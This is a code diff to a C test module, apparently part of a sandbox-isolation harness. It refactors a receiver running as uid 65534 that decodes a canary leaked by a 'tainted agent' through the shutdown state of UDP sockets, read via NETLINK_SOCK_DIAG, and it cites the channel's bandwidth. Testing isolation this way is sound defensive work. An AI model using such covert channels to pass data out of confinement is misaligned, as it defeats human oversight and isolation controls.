@@ -14,10 +14,8 @@
  * Bandwidth before: 1 bit per socket (2 with SHUT_RDWR and an index carrier), bounded by the fd
  * limit per agent (~1000 bits at once; sockets can be closed and remade: ~10^4 sockets/s).
  * Threat model: docs/threat-model.md ("Socket state set by shutdown(2)"). */
-#include <grp.h>
 #include <netinet/in.h>
 #include <stdint.h>
-#include <sys/wait.h>
 #include <linux/inet_diag.h>
 
 #include "atk.h"
@@ -93,49 +91,40 @@ static int dump_udp(struct sa_sock *out, int cap)
     return atkv_diag_dump(IPPROTO_UDP, 0, ~0u, sa_each, &o) < 0 ? -1 : o.got;
 }
 
+/* uid 65534 (atk_as_uid): one message per owner uid, joined by '|'; 1 if the canary is there */
+static int decode(struct atk_ctx *c, char *out, size_t n)
+{
+    static struct sa_sock socks[4096];
+    static char msg[8192];
+    int got = dump_udp(socks, 4096);
+    if (got > 0)
+        qsort(socks, (size_t)got, sizeof(socks[0]), by_port);
+    size_t mlen = 0;
+    for (int k = 0; k < got;) {
+        int e = k;
+        while (e < got && socks[e].uid == socks[k].uid)
+            e++;
+        for (int i = k; i < e && mlen + (size_t)(i - k) / 8 + 2 < sizeof(msg); i++)
+            if (socks[i].sd == 2)
+                msg[mlen + (size_t)(i - k) / 8] |= (char)(1 << ((i - k) % 8));
+        mlen += (size_t)(e - k + 7) / 8;
+        if (mlen + 1 < sizeof(msg))
+            msg[mlen++] = '|';
+        k = e;
+    }
+    if (!atk_buf_has(msg, mlen < sizeof(msg) ? mlen : sizeof(msg), c->canary))
+        return 0;
+    snprintf(out, n,
+             "uid 65534 read the canary from the shutdown state of UDP sockets the tainted agent "
+             "made and autobound (NETLINK_SOCK_DIAG INET_DIAG_SHUTDOWN, port rank as the index)");
+    return 1;
+}
+
 static void on_sync(struct atk_ctx *c, const char *tag)
 {
-    if (strcmp(tag, "set") != 0)
-        return;
-    int p[2];
-    if (pipe(p) != 0)
-        return;
-    pid_t pid = fork();
-    if (pid == 0) {
-        close(p[0]);
-        if (setgroups(0, NULL) != 0 || setgid(65534) != 0 || setuid(65534) != 0)
-            _exit(1);
-        static struct sa_sock socks[4096];
-        int n = dump_udp(socks, 4096);
-        if (n > 0)
-            qsort(socks, (size_t)n, sizeof(socks[0]), by_port);
-        /* one message per uid group, joined by '|' */
-        static char msg[8192];
-        size_t mlen = 0;
-        for (int k = 0; k < n;) {
-            int e = k;
-            while (e < n && socks[e].uid == socks[k].uid)
-                e++;
-            for (int i = k; i < e && mlen + (size_t)(i - k) / 8 + 2 < sizeof(msg); i++)
-                if (socks[i].sd == 2)
-                    msg[mlen + (size_t)(i - k) / 8] |= (char)(1 << ((i - k) % 8));
-            mlen += (size_t)(e - k + 7) / 8;
-            if (mlen + 1 < sizeof(msg))
-                msg[mlen++] = '|';
-            k = e;
-        }
-        ssize_t w = write(p[1], msg, mlen);
-        _exit(w < 0);
-    }
-    close(p[1]);
-    static char got[8194];
-    ssize_t r = pid > 0 ? read(p[0], got, sizeof(got) - 1) : -1;
-    close(p[0]);
-    if (pid > 0)
-        waitpid(pid, NULL, 0);
-    if (r > 0 && memmem(got, (size_t)r, c->canary, strlen(c->canary)))
-        atk_evidence(c, "uid 65534 read the canary from the shutdown state of UDP sockets the tainted agent "
-                        "made and autobound (NETLINK_SOCK_DIAG INET_DIAG_SHUTDOWN, port rank as the index)");
+    char out[256];
+    if (strcmp(tag, "set") == 0 && atk_as_uid(c, ATK_NOBODY, decode, out, sizeof(out)) == 1)
+        atk_evidence(c, "%s", out);
 }
 
 static const struct atk A = {"udp_shutdown_autobind",
